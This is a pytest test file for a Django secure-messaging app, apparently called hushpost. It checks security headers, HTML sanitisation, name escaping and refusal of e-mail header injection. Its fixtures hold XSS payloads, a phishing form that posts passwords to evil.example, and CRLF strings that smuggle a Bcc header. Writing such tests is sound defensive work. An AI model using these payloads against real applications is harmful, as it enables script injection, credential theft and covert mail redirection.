"""Injection: pages whose headers forbid what they do not need, bodies and names that cannot
carry script into a reader's page, and line breaks that cannot add a header or a recipient to
an e-mail."""

from __future__ import annotations

import re
import secrets

import pytest
from django.test import Client

from hushpost.accounts.actions import create_sender
from hushpost.accounts.models import User
from hushpost.messaging.models import Message
from hushpost.orgs.actions import create_organization
from hushpost.orgs.models import Organization
from tests.helpers import BACKEND, PASSWORD_SUBJECT, send
from tests.personas import BOB, OPS_PASSWORD, PASSWORD, ops_enrol

# --- response headers -----------------------------------------------------------

PAGES = [
    ("anon", "/login"),
    ("anon", "/r/{A}/login"),
    ("anon", "/no-such-page"),
    ("alice", "/app/"),
    ("alice", "/app/sent"),
    ("alice", "/app/compose"),
    ("alice", "/app/m/{m1}"),
    ("alice", "/app/m/{r1}"),
    ("bob", "/r/{A}/"),
    ("bob", "/r/{A}/m/{m1}"),
    ("bob", "/r/{A}/m/{m1}/reply"),
    ("bob", "/r/{A}/m/{m1}/print"),
    ("bob", "/r/{A}/password"),
]


def _csp(response) -> dict[str, list[str]]:
    return _directives(response["Content-Security-Policy"])


def _directives(header: str) -> dict[str, list[str]]:
    policy = {}
    for directive in filter(None, (d.strip() for d in header.split(";"))):
        name, *values = directive.split()
        policy[name] = values
    return policy


@pytest.mark.parametrize(("persona", "template"), PAGES)
def test_security_headers_on_every_page(world, db, persona, template):
    w = world
    path = template.format(A=w.slug(), m1=w.uids["m1"], r1=w.uids["r1"])
    client = Client() if persona == "anon" else w.signed_in(persona)
    response = client.get(path)
    assert response.status_code in (200, 404), path
    policy = _csp(response)
    assert policy["default-src"] == ["'none'"]
    assert "script-src" in policy
    for directive in ("script-src", "style-src", "default-src"):
        for value in policy.get(directive, []):
            assert value not in ("'unsafe-inline'", "'unsafe-eval'", "*", "data:", "http:", "https:"), directive
    assert policy["frame-ancestors"] == ["'none'"]
    assert policy["object-src"] == ["'none'"]
    assert policy["base-uri"] == ["'none'"]
    assert policy["form-action"] == ["'self'"]
    assert response["X-Frame-Options"] == "DENY"
    assert response["Referrer-Policy"] == "no-referrer"
    assert response["X-Content-Type-Options"] == "nosniff"
    cache = [d.strip() for d in response["Cache-Control"].split(",")]
    assert "no-store" in cache and "private" in cache
    # The policy forbids inline script and handlers, so the pages must not rely on them.
    page = response.content.decode()
    for tag in re.findall(r"<script\b[^>]*>", page, re.I):
        assert "src=" in tag, tag
    assert not re.search(r"<[^>]+\son[a-z]+\s*=", page, re.I)
    assert "javascript:" not in page.lower()


def test_the_policy_built_once_is_django_csps_and_follows_the_settings(world, db, settings):
    """The header each page gets from the policy built once per process is the one django-csp
    builds, and a change to the settings reaches the next response."""
    from csp.utils import build_policy

    alice = world.signed_in("alice")
    assert _csp(alice.get("/app/compose")) == _directives(build_policy())
    directives = settings.CONTENT_SECURITY_POLICY["DIRECTIVES"]
    settings.CONTENT_SECURITY_POLICY = {"DIRECTIVES": {**directives, "img-src": ["'self'"]}}
    assert _csp(alice.get("/app/compose"))["img-src"] == ["'self'"]
    settings.CONTENT_SECURITY_POLICY_REPORT_ONLY = {"DIRECTIVES": {"default-src": ["'self'"]}}
    response = alice.get("/app/compose")
    assert response["Content-Security-Policy-Report-Only"] == "default-src 'self'"
    settings.CONTENT_SECURITY_POLICY_REPORT_ONLY = {}
    assert "Content-Security-Policy-Report-Only" not in alice.get("/app/compose")
    # The pages that change the policy for themselves (the dev mailbox's sandboxed e-mail,
    # tests/test_mailbox.py; a region's sign-in form, tests/test_regions.py) get their own.


# --- what recipients see: sanitised bodies, escaped names -----------------------------------

RISKY_BODY = (
    "<p>Intro <b>bold</b> <i>italic</i> <u>under</u></p>"
    "<ul><li>first</li><li>second</li></ul>"
    '<p><a href="https://example.org/ok">good link</a></p>'
    "<script>alert('s1')</script>"
    "<style>body{display:none}</style>"
    '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>'
    '<iframe src="https://evil.example/frame"></iframe>'
    '<img src="https://evil.example/pixel.png" onerror="alert(\'i1\')">'
    '<p onclick="alert(\'c1\')">click</p>'
    '<a href="javascript:alert(\'j1\')">js link</a>'
    '<a href="JaVaScRiPt:alert(\'j2\')">js link 2</a>'
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>'
    '<svg onload="alert(\'v1\')"></svg>'
    '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">'
    '<base href="https://evil.example/">'
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
)


def _body_of(page: str) -> str:
    start = page.index('class="rich-text message-body">')
    return page[start:page.index("</article>", start)]


def _assert_clean(fragment: str) -> None:
    lowered = fragment.lower()
    for needle in ("<script", "<style", "<form", "<input", "<iframe", "<img", "<svg", "<object", "<embed",
                   "<base", "<meta", "onerror", "onclick", "onload", "javascript:", "data:text", "evil.example",
                   "alert("):
        assert needle not in lowered, needle


def test_active_content_is_stripped_and_formatting_kept(world, db, smtp, deliver):
    w = world
    alice, bob = w.signed_in("alice"), w.signed_in("bob")
    uid = send(alice, to=BOB, subject="Formatting test", body=RISKY_BODY)["Location"].rsplit("/", 1)[1]
    stored = Message.objects.get(uid=uid)
    from hushpost.messaging.content import open_content

    _assert_clean(open_content(stored).body_html)  # sanitised before it is even encrypted
    for path in (f"/r/{w.slug()}/m/{uid}", f"/r/{w.slug()}/m/{uid}/print"):
        page = bob.get(path).content.decode()
        body = _body_of(page)
        _assert_clean(body)
        for kept in ("<b>bold</b>", "<i>italic</i>", "<u>under</u>", "<ul>", "<li>first</li>",
                     '<a href="https://example.org/ok" rel="noopener noreferrer nofollow">good link</a>'):
            assert kept in body, kept
        for text in ("js link", "click", "data link"):
            assert text in body  # the words stay, the behaviour goes
        assert "evil.example" not in page and "alert(" not in page
    reply_page = bob.get(f"/r/{w.slug()}/m/{uid}/reply").content.decode()
    assert "alert(" not in reply_page and "evil.example" not in reply_page
    _assert_clean(_body_of(alice.get(f"/app/m/{uid}").content.decode()))
    # A recipient's reply goes through the same allow-list on its way to the sender.
    r = bob.post(f"/r/{w.slug()}/m/{uid}/reply",
                 {"body": RISKY_BODY, "body_format": "html", "send_token": secrets.token_urlsafe(24)})
    assert r.status_code == 302
    reply = Message.objects.get(in_reply_to=stored, kind=Message.Kind.REPLY)
    page = alice.get(f"/app/m/{reply.uid}").content.decode()
    _assert_clean(_body_of(page))
    assert "<b>bold</b>" in _body_of(page)


def test_plain_text_body_is_shown_as_text(world, db):
    w = world
    alice, bob = w.signed_in("alice"), w.signed_in("bob")
    body = "Dear Bob,\n<script>alert('t1')</script> & <b>not bold</b>"
    uid = send(alice, to=BOB, subject="Text", body=body, body_format="text")["Location"].rsplit("/", 1)[1]
    shown = _body_of(bob.get(f"/r/{w.slug()}/m/{uid}").content.decode())
    assert "&lt;script&gt;" in shown and "<script" not in shown
    assert "&lt;b&gt;not bold&lt;/b&gt;" in shown


HOSTILE_NAME = 'Eve <img src=x onerror=alert("n1")>'
HOSTILE_ORG = 'Org <script>alert("o1")</script>'
HOSTILE_ADDRESS = '"<svg/onload=alert(1)>"@client.example'


def test_names_and_addresses_are_escaped_everywhere(db, smtp, deliver, base_url_testserver):
    org = create_organization(name=HOSTILE_ORG, domains=["hostile.example"])
    eve = create_sender(email="eve@hostile.example", name=HOSTILE_NAME, password=PASSWORD)
    alice = Client()
    alice.force_login(eve, backend=BACKEND)
    subject = '<script>alert("subj")</script> "quoted" & more'
    r = send(alice, to=f"{HOSTILE_ADDRESS}, bob@client.example", subject=subject, read_receipt=True)
    assert r.status_code == 302, r.content[:400]
    uid = r["Location"].rsplit("/", 1)[1]
    deliver()
    recipient = User.objects.get(org=org, email=HOSTILE_ADDRESS.lower())
    User.objects.filter(pk=recipient.pk).update(must_change_password=False)
    reader = Client()
    reader.force_login(recipient, backend=BACKEND)
    pages = {
        "sender message": alice.get(f"/app/m/{uid}"),
        "sender sent": alice.get("/app/sent"),
        "sender compose": alice.get("/app/compose"),
        "recipient inbox": reader.get(f"/r/{org.slug}/"),
        "recipient message": reader.get(f"/r/{org.slug}/m/{uid}"),
        "recipient reply all": reader.get(f"/r/{org.slug}/m/{uid}/reply?all=1"),
        "recipient print": reader.get(f"/r/{org.slug}/m/{uid}/print"),
    }
    for label, response in pages.items():
        assert response.status_code == 200, label
        page = response.content.decode()
        for raw in ("<img src=x", "<svg/onload", '<script>alert("'):
            assert raw not in page, (label, raw)
    assert "&lt;svg/onload=alert(1)&gt;" in pages["sender message"].content.decode()
    assert "&lt;img src=x onerror=alert(&quot;n1&quot;)&gt;" in pages["recipient message"].content.decode()
    reader.get(f"/r/{org.slug}/m/{uid}")
    deliver()
    mails = smtp.messages
    assert {m.subject for m in mails} >= {PASSWORD_SUBJECT, "Secure Messaging Read Receipt"}
    for mail in mails:
        html = mail.html
        for raw in ("<img src=x", "<svg/onload", "<script>alert"):
            assert raw not in html, (mail.subject, raw)
        assert "subj" not in mail.text + html


# --- e-mail headers: a line break adds no header and no recipient ---------------------------

@pytest.mark.parametrize("subject", ["Hello\r\nBcc: evil@evil.example", "Hello\nBcc: evil@evil.example",
                                     "Hello\rBcc: evil@evil.example"])
def test_line_breaks_in_the_subject_are_refused(world, db, subject):
    alice = world.signed_in("alice")
    before = Message.objects.count()
    r = send(alice, to="zed@client.example", subject=subject)
    assert r.status_code == 400
    assert "The subject cannot contain line breaks." in r.content.decode()
    assert Message.objects.count() == before


def test_line_breaks_in_addresses_add_no_recipient(world, db, smtp, deliver):
    alice = world.signed_in("alice")
    before = Message.objects.count()
    r = send(alice, to="zed@client.example\r\nBcc: evil@evil.example", subject="Injected")
    assert r.status_code == 400 and "not a valid e-mail address" in r.content.decode()
    assert Message.objects.count() == before
    deliver()
    assert not [m for m in smtp.messages if "evil@evil.example" in m.rcpt_tos]


def test_organisation_sender_name_loses_its_line_breaks(db):
    org = create_organization(name="Crlf", domains=["crlf.example"], sender_name="Crlf\r\nBcc: evil@evil.example")
    assert "\r" not in org.sender_name and "\n" not in org.sender_name


def test_operators_admin_cannot_set_the_sender_name(db):
    """The name notifications come from is the organisation's (its policy) or the CLI's, never /ops/."""
    org = create_organization(name="Crlf", domains=["crlf.example"])
    User.objects.create_superuser("op@ops.example", OPS_PASSWORD)
    client = Client()
    ops_enrol(client, "op@ops.example")
    data = {"name": org.name, "slug": org.slug, "sender_name": "Crlf\r\nBcc: evil@evil.example",
            "is_active": "on", "_save": "Save"}
    r = client.post(f"/ops/orgs/organization/{org.pk}/change/", data)
    assert r.status_code == 302
    org.refresh_from_db()
    assert org.sender_name == "Crlf"


def test_organisation_sender_name_never_injects_a_header(db, smtp, deliver):
    org = create_organization(name="Crlf", domains=["crlf.example"])
    Organization.objects.filter(pk=org.pk).update(sender_name="Crlf\r\nBcc: evil@evil.example")
    sender = create_sender(email="s@crlf.example", name="S", password=PASSWORD)
    client = Client()
    client.force_login(sender, backend=BACKEND)
    assert send(client, to="zed@client.example").status_code == 302
    deliver()
    assert not [m for m in smtp.messages if "evil@evil.example" in m.rcpt_tos or m.message["Bcc"]]
